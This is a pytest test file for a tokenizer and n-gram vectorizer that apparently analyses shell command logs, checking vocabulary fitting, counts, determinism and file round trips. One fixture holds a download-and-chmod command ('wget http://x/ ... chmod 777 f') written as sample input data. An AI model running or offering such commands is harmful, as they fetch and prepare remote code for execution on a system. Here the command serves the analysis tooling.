from __future__ import annotations

import random

from loadermine.tokenizer import sequence_from_parts, tokenize
from loadermine.vectorizer import (
    fit_vocabulary,
    read_vectors,
    vectorize,
    vocabulary_fingerprint,
    vocabulary_from_json,
    vocabulary_to_json,
    write_vectors,
)


def seq(parts: list[bytes], log_id="log"):
    return sequence_from_parts(parts, log_id=log_id)


def counts_by_gram(vec, vocab):
    inverse = {idx: key for key, idx in vocab.entries.items()}
    return {inverse[i]: c for i, c in vec.counts.items()}


def test_vocabulary_of_aba():
    vocab = fit_vocabulary([seq([b"a", b"b", b"a"])])
    assert vocab.dim_total == 5
    grams = set(vocab.entries)
    assert grams == {
        (1, (b"a",)), (1, (b"b",)),
        (2, (b"a", b"b")), (2, (b"b", b"a")),
        (3, (b"a", b"b", b"a")),
    }


def test_single_token_log_has_one_dimension():
    vocab = fit_vocabulary([seq([b"x"])])
    assert vocab.dim_total == 1


def test_vectorize_aba():
    vocab = fit_vocabulary([seq([b"a", b"b", b"a"])])
    vec = vectorize(seq([b"a", b"b", b"a"]), vocab)
    assert counts_by_gram(vec, vocab) == {
        (1, (b"a",)): 2,
        (1, (b"b",)): 1,
        (2, (b"a", b"b")): 1,
        (2, (b"b", b"a")): 1,
        (3, (b"a", b"b", b"a")): 1,
    }


def test_vectorize_aaa_window_arithmetic():
    s = seq([b"a", b"a", b"a"])
    vocab = fit_vocabulary([s])
    vec = vectorize(s, vocab)
    assert counts_by_gram(vec, vocab) == {
        (1, (b"a",)): 3,
        (2, (b"a", b"a")): 2,
        (3, (b"a", b"a", b"a")): 1,
    }


def test_empty_sequence_empty_counts():
    vocab = fit_vocabulary([seq([b"a"])])
    assert vectorize(seq([]), vocab).counts == {}


def test_out_of_vocabulary_grams_ignored():
    vocab = fit_vocabulary([seq([b"a", b"b"])])
    vec = vectorize(seq([b"a", b"z", b"b"]), vocab)
    by_gram = counts_by_gram(vec, vocab)
    assert by_gram == {(1, (b"a",)): 1, (1, (b"b",)): 1}


def test_unigram_total_equals_token_count_in_vocab():
    s = tokenize(b"cd /tmp && cd /var", log_id="l")
    vocab = fit_vocabulary([s])
    vec = vectorize(s, vocab)
    orders = vocab.order_of_dim()
    unigram_total = sum(c for i, c in vec.counts.items() if orders[i] == 1)
    assert unigram_total == len(s)


def test_window_count_identity_random():
    rng = random.Random(7)
    alphabet = [b"a", b"b", b"c", b"d"]
    for _ in range(50):
        length = rng.randint(0, 30)
        s = seq([rng.choice(alphabet) for _ in range(length)])
        vocab = fit_vocabulary([s])
        vec = vectorize(s, vocab)
        orders = vocab.order_of_dim()
        for n in (1, 2, 3):
            total = sum(c for i, c in vec.counts.items() if orders[i] == n)
            assert total == max(length - n + 1, 0)


def test_permutation_changes_higher_order_counts_only():
    vocab = fit_vocabulary([seq([b"a", b"b", b"c"]), seq([b"c", b"b", b"a"])])
    v1 = vectorize(seq([b"a", b"b", b"c"]), vocab)
    v2 = vectorize(seq([b"c", b"b", b"a"]), vocab)
    orders = vocab.order_of_dim()

    def by_order(vec, n):
        return {i: c for i, c in vec.counts.items() if orders[i] == n}

    assert by_order(v1, 1) == by_order(v2, 1)
    assert by_order(v1, 2) != by_order(v2, 2)
    assert by_order(v1, 3) != by_order(v2, 3)


def test_fit_is_deterministic():
    corpus = [tokenize(f"cmd{i} /tmp/{i}".encode(), log_id=str(i)) for i in range(10)]
    v1 = fit_vocabulary(corpus)
    v2 = fit_vocabulary(corpus)
    assert v1.entries == v2.entries
    assert vocabulary_fingerprint(v1) == vocabulary_fingerprint(v2)


def test_windows_do_not_cross_log_boundaries():
    vocab = fit_vocabulary([seq([b"a", b"b"]), seq([b"c", b"d"])])
    assert (2, (b"b", b"c")) not in vocab.entries
    assert (2, (b"a", b"b")) in vocab.entries
    assert (2, (b"c", b"d")) in vocab.entries


def test_vocabulary_json_round_trip():
    corpus = [tokenize(b"wget http://x/ -O - > f; chmod 777 f", log_id="a"),
              tokenize(bytes([0, 1, 255]) + b"ok", log_id="b")]
    vocab = fit_vocabulary(corpus)
    back = vocabulary_from_json(vocabulary_to_json(vocab))
    assert back.entries == vocab.entries


def test_vectors_file_round_trip(tmp_path):
    corpus = [tokenize(f"echo {i}\r\n".encode(), log_id=f"rl-{i}") for i in range(4)]
    vocab = fit_vocabulary(corpus)
    vectors = [vectorize(s, vocab) for s in corpus]
    path = tmp_path / "vectors.bin"
    write_vectors(str(path), vectors, vocab)
    back, dims, fingerprint = read_vectors(str(path))
    assert dims == vocab.dim_total
    assert fingerprint == vocabulary_fingerprint(vocab)
    assert [(v.log_id, v.counts) for v in back] == \
           [(v.log_id, v.counts) for v in vectors]


def test_all_counts_positive():
    s = tokenize(b"a b a b", log_id="l")
    vocab = fit_vocabulary([s])
    vec = vectorize(s, vocab)
    assert all(c >= 1 for c in vec.counts.values())
